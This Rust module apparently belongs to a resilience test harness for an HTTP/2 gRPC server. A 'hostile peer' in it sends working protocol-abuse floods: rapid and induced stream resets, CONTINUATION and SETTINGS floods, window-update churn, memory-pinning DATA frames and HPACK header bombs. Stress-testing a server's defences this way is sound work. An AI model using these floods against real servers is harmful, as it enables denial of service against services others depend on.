//! Frames that a peer should not send, or not so many of.

use std::io;

use futures_util::future::BoxFuture;
use tokio::io::{AsyncWriteExt as _, split};

use super::{
    HostilePeer, PLACE, REFLECTION, WATCH,
    hostile_peer::Paced,
    http2_calls::{grpc_message, reflection_of_symbol},
};
use crate::peers::{
    CONTINUATION, DATA, END_HEADERS, END_STREAM, HEADERS, PADDED, PING, PREFACE, PRIORITY,
    RST_STREAM, SETTINGS, SETTINGS_FRAME, WINDOW_UPDATE, field, grpc_head, raw_frame,
};

pub type Attacking = BoxFuture<'static, ()>;

/// Of a type that no standard defines: it must be ignored (RFC 9113, section 4.1).
pub const UNKNOWN: u8 = 0xfa;

/// Bytes of a large frame; the server takes 16 KiB.
pub const LARGE: usize = 16_000;

/// Streams that one connection holds open; the server takes 256.
pub const STREAMS: usize = 250;

/// Sends `opening`, then what `next` gives, to the end of the connection.
fn flood(
    peer: HostilePeer,
    opening: Vec<u8>,
    next: impl FnMut() -> Vec<u8> + Send + 'static,
) -> Attacking {
    Box::pin(async move {
        // However it ends, there is another.
        let _ = try_flood(&peer, opening, next).await;
    })
}

async fn try_flood(
    peer: &HostilePeer,
    opening: Vec<u8>,
    mut next: impl FnMut() -> Vec<u8>,
) -> io::Result<()> {
    let mut stream = open(peer, &opening).await?;
    // Every second connection lets the answers pile up.
    let reads = stream.number.is_multiple_of(2);
    let (mut reader, mut writer) = split(&mut stream);
    let sending = async {
        loop {
            let frames = next();
            if frames.is_empty() {
                std::future::pending::<()>().await;
            }
            writer.write_all(&frames).await?;
        }
    };
    let reading = async {
        if reads {
            tokio::io::copy(&mut reader, &mut tokio::io::sink()).await
        } else {
            std::future::pending().await
        }
    };
    tokio::select! { ended = sending => ended, _ = reading => Ok(()) }
}

/// A connection with its preface, and what else it begins with.
pub async fn open(peer: &HostilePeer, opening: &[u8]) -> io::Result<Paced> {
    let mut stream = peer.connect().await?;
    stream.write_all(&[PREFACE, SETTINGS, opening].concat()).await?;
    Ok(stream)
}

/// The ids of a client's streams.
pub fn ids() -> impl Iterator<Item = u32> + Send {
    (1..).step_by(2)
}

pub fn head(stream: u32, path: &str) -> Vec<u8> {
    raw_frame(HEADERS, END_HEADERS, stream, &grpc_head(path))
}

/// A `SETTINGS_INITIAL_WINDOW_SIZE`.
fn window_setting(bytes: u32) -> Vec<u8> {
    raw_frame(SETTINGS_FRAME, 0, 0, &[&[0, 4], &bytes.to_be_bytes()[..]].concat())
}

pub fn rapid_resets(peer: HostilePeer) -> Attacking {
    let mut ids = ids();
    flood(peer, Vec::new(), move || {
        let mut pairs = Vec::new();
        for id in ids.by_ref().take(50) {
            pairs.extend(head(id, PLACE));
            pairs.extend(raw_frame(RST_STREAM, 0, id, &8_u32.to_be_bytes()));
        }
        pairs
    })
}

/// Whole calls whose streams the server itself has to reset, since their windows overflow.
pub fn induced_resets(peer: HostilePeer) -> Attacking {
    let mut ids = ids();
    flood(peer, Vec::new(), move || {
        let mut calls = Vec::new();
        for id in ids.by_ref().take(50) {
            calls.extend(head(id, PLACE));
            calls.extend(raw_frame(DATA, END_STREAM, id, &grpc_message(b"\n\x04book")));
            calls.extend(raw_frame(WINDOW_UPDATE, 0, id, &0x7fff_ffff_u32.to_be_bytes()));
        }
        calls
    })
}

pub fn continuations(peer: HostilePeer) -> Attacking {
    let begin = raw_frame(HEADERS, 0, 1, &grpc_head(PLACE));
    flood(peer, begin, || raw_frame(CONTINUATION, 0, 1, &field("x", "v").repeat(LARGE / 5)))
}

pub fn settings(peer: HostilePeer) -> Attacking {
    flood(peer, Vec::new(), || SETTINGS.repeat(1000))
}

pub fn pings(peer: HostilePeer) -> Attacking {
    flood(peer, Vec::new(), || raw_frame(PING, 0, 0, &[0; 8]).repeat(1000))
}

/// Each such frame changes the window of each stream.
pub fn moving_windows(peer: HostilePeer) -> Attacking {
    let whole = |id| [head(id, WATCH), raw_frame(DATA, END_STREAM, id, &[0; 5])].concat();
    let watches = ids().take(STREAMS).flat_map(whole).collect();
    flood(peer, watches, || [window_setting(0), window_setting(65_535)].concat().repeat(500))
}

pub fn priorities(peer: HostilePeer) -> Attacking {
    let mut ids = ids();
    flood(peer, Vec::new(), move || {
        ids.by_ref().take(500).flat_map(|id| raw_frame(PRIORITY, 0, id, &[0, 0, 0, 0, 1])).collect()
    })
}

pub fn window_updates(peer: HostilePeer) -> Attacking {
    let update = |stream| raw_frame(WINDOW_UPDATE, 0, stream, &1_u32.to_be_bytes());
    flood(peer, head(1, PLACE), move || [update(0), update(1)].concat().repeat(500))
}

pub fn unknown_frames(peer: HostilePeer) -> Attacking {
    flood(peer, Vec::new(), || raw_frame(UNKNOWN, 0, 0, &[]).repeat(1000))
}

pub fn empty_data(peer: HostilePeer) -> Attacking {
    flood(peer, head(1, PLACE), || raw_frame(DATA, 0, 1, &[]).repeat(1000))
}

pub fn padded_data(peer: HostilePeer) -> Attacking {
    // A length of the padding, one byte, and the padding.
    let padded = [&[255, 0][..], &[0; 255]].concat();
    flood(peer, head(1, PLACE), move || raw_frame(DATA, PADDED, 1, &padded).repeat(100))
}

/// Streams on which requests wait for the responses before them, which are not read.
fn stuck_reflection() -> Vec<u8> {
    let request = grpc_message(&reflection_of_symbol("orders.v1.OrderService"));
    let stuck = |id| [head(id, REFLECTION), raw_frame(DATA, 0, id, &request.repeat(8))].concat();
    window_setting(0).into_iter().chain(ids().take(STREAMS).flat_map(stuck)).collect()
}

pub fn one_byte_data(peer: HostilePeer) -> Attacking {
    flood(peer, stuck_reflection(), || {
        ids().take(STREAMS).flat_map(|id| raw_frame(DATA, 0, id, &[0])).collect()
    })
}

/// One byte that is kept may keep what was read with it.
pub fn pinning_data(peer: HostilePeer) -> Attacking {
    // As many as h2 keeps before it ends the connection: half of its window by 255 bytes.
    let mut left = 2000;
    let mut streams = ids().take(STREAMS).collect::<Vec<_>>().into_iter().cycle();
    let filler = raw_frame(UNKNOWN, 0, 0, &[0; LARGE]);
    flood(peer, stuck_reflection(), move || {
        if left == 0 {
            // What is kept is kept.
            return Vec::new();
        }
        left -= 1;
        let id = streams.next().unwrap();
        [raw_frame(DATA, 0, id, &[0]), filler.clone()].concat()
    })
}

pub fn oversized_heads(peer: HostilePeer) -> Attacking {
    let mut ids = ids();
    let rest = field("x", &"v".repeat(LARGE - 200));
    flood(peer, Vec::new(), move || {
        let id = ids.next().unwrap();
        let begin = raw_frame(HEADERS, END_STREAM, id, &[grpc_head(PLACE), rest.clone()].concat());
        [begin, raw_frame(CONTINUATION, END_HEADERS, id, &rest)].concat()
    })
}

/// A field of 4 000 bytes goes into the table of fields, and then counts one byte.
pub fn header_bombs(peer: HostilePeer) -> Attacking {
    let mut ids = ids();
    let mut bomb = field("x", &"v".repeat(4000));
    bomb[0] = 0x40;
    let opening = raw_frame(HEADERS, END_HEADERS | END_STREAM, ids.next().unwrap(), &bomb);
    flood(peer, opening, move || {
        // The youngest entry of the table.
        let repeated = [grpc_head(PLACE), vec![0xbe; LARGE / 2]].concat();
        raw_frame(HEADERS, END_HEADERS | END_STREAM, ids.next().unwrap(), &repeated)
    })
}
